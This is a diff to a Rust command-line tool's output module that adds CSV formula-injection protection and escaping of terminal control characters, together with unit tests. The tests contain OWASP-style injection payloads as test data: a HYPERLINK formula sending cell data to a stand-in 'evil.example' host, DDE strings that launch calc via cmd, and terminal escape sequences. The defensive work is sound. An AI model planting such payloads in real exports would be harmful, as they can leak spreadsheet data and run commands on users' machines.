@@ -1,6 +1,6 @@
 //! Output shapes: aligned tables for people, JSON and CSV for machines, all on stdout.
 
-use std::io::{self, Write};
+use std::io::{self, IsTerminal, Write};
 
 use pagetrail_core::time::format_rfc3339;
 
@@ -13,9 +13,7 @@ pub fn clean(s: &str) -> String {
             '\n' => out.push_str("\\n"),
             '\r' => out.push_str("\\r"),
             '\t' => out.push_str("\\t"),
-            c if c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c) => {
-                out.push_str(&format!("\\u{{{:x}}}", c as u32))
-            }
+            c if is_terminal_control(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
             c => out.push(c),
         }
     }
@@ -112,14 +110,82 @@ impl Table {
     }
 }
 
-/// Writes CSV rows (RFC 4180) with a header.
+/// Writes CSV rows (RFC 4180) with a header. Every cell goes through [`csv_cell`]; control
+/// characters are escaped as in tables when stdout is a terminal.
 pub fn csv(out: &mut dyn Write, headers: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> io::Result<()> {
+    let terminal = io::stdout().is_terminal();
     let mut w = ::csv::Writer::from_writer(out);
     w.write_record(headers).map_err(io::Error::other)?;
     for r in rows {
-        w.write_record(&r).map_err(io::Error::other)?;
+        w.write_record(r.iter().map(|c| csv_cell(c, terminal).into_owned())).map_err(io::Error::other)?;
     }
     w.flush()
+}
+
+/// One CSV cell made safe to open in a spreadsheet (OWASP "CSV injection"): a cell that begins
+/// with `=`, `+`, `@`, a tab or a carriage return would be read as a formula (`=HYPERLINK(...)`),
+/// so it gets a leading `'`, which spreadsheets show as text. `-` is left alone: it is the
+/// anonymous user and a negative number. With `terminal`, control characters are escaped too.
+pub fn csv_cell(cell: &str, terminal: bool) -> std::borrow::Cow<'_, str> {
+    let formula = cell.starts_with(['=', '+', '@', '\t', '\r']);
+    match (formula, terminal) {
+        (false, false) => std::borrow::Cow::Borrowed(cell),
+        (true, false) => std::borrow::Cow::Owned(format!("'{cell}")),
+        (false, true) => std::borrow::Cow::Owned(clean(cell)),
+        (true, true) => std::borrow::Cow::Owned(format!("'{}", clean(cell))),
+    }
+}
+
+/// Whether a character would be taken by a terminal as a control: C0 (which JSON escapes
+/// itself), DEL, C1 (U+009B is a one-character CSI) and bidirectional overrides.
+fn is_terminal_control(c: char) -> bool {
+    c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
+}
+
+/// JSON for a terminal: characters a terminal would act on become `\uXXXX` escapes, which mean
+/// the same to a JSON reader (they occur only inside strings). Works line by line.
+pub struct TerminalJson<W: Write> {
+    inner: W,
+    pending: Vec<u8>,
+}
+
+impl<W: Write> TerminalJson<W> {
+    pub fn new(inner: W) -> Self {
+        TerminalJson { inner, pending: Vec::new() }
+    }
+
+    fn emit(&mut self, upto: usize) -> io::Result<()> {
+        let line: Vec<u8> = self.pending.drain(..upto).collect();
+        let text = String::from_utf8_lossy(&line);
+        let mut out = String::with_capacity(text.len());
+        for c in text.chars() {
+            if is_terminal_control(c) && c != '\n' {
+                let mut units = [0u16; 2];
+                for u in c.encode_utf16(&mut units) {
+                    out.push_str(&format!("\\u{:04x}", u));
+                }
+            } else {
+                out.push(c);
+            }
+        }
+        self.inner.write_all(out.as_bytes())
+    }
+}
+
+impl<W: Write> Write for TerminalJson<W> {
+    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
+        self.pending.extend_from_slice(buf);
+        if let Some(nl) = self.pending.iter().rposition(|&b| b == b'\n') {
+            self.emit(nl + 1)?;
+        }
+        Ok(buf.len())
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        let n = self.pending.len();
+        self.emit(n)?;
+        self.inner.flush()
+    }
 }
 
 #[cfg(test)]
@@ -134,6 +200,48 @@ mod tests {
         assert_eq!(bytes(999), "999 B");
         assert_eq!(bytes(1_400_000), "1.4 MB");
         assert_eq!(clean("a\u{1b}[31mred\n\u{202e}x"), "a\\u{1b}[31mred\\n\\u{202e}x");
+    }
+
+    #[test]
+    fn csv_cells_cannot_be_formulas_and_escape_on_terminals() {
+        // OWASP's examples, and a user agent with a terminal escape.
+        for (cell, file, term) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                None,
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", None),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", None),
+            ("\t=1", "'\t=1", Some("'\\t=1")),
+            ("\r=1", "'\r=1", Some("'\\r=1")),
+            ("-", "-", None),
+            ("-2", "-2", None),
+            (
+                "Mozilla/5.0 \u{1b}[2J\u{9b}31m",
+                "Mozilla/5.0 \u{1b}[2J\u{9b}31m",
+                Some("Mozilla/5.0 \\u{1b}[2J\\u{9b}31m"),
+            ),
+            ("plain = fine", "plain = fine", None),
+        ] {
+            assert_eq!(csv_cell(cell, false), file, "{cell:?}");
+            assert_eq!(csv_cell(cell, true), term.unwrap_or(file), "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn json_for_terminals_escapes_what_terminals_act_on() {
+        let v = serde_json::json!({"ua": "a\u{1b}]0;owned\u{7}b\u{9b}2J\u{202e}x\u{7f}"});
+        let mut out = TerminalJson::new(Vec::new());
+        writeln!(out, "{v}").unwrap();
+        write!(out, "{{\"tail\":\"\u{9b}\"}}").unwrap();
+        out.flush().unwrap();
+        let text = String::from_utf8(out.inner).unwrap();
+        assert!(text.chars().all(|c| !is_terminal_control(c) || c == '\n'), "{text:?}");
+        let mut lines = text.lines();
+        let back: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
+        assert_eq!(back, v, "the escapes mean the same to a JSON reader");
+        assert_eq!(lines.next(), Some("{\"tail\":\"\\u009b\"}"));
     }
 
     #[test]
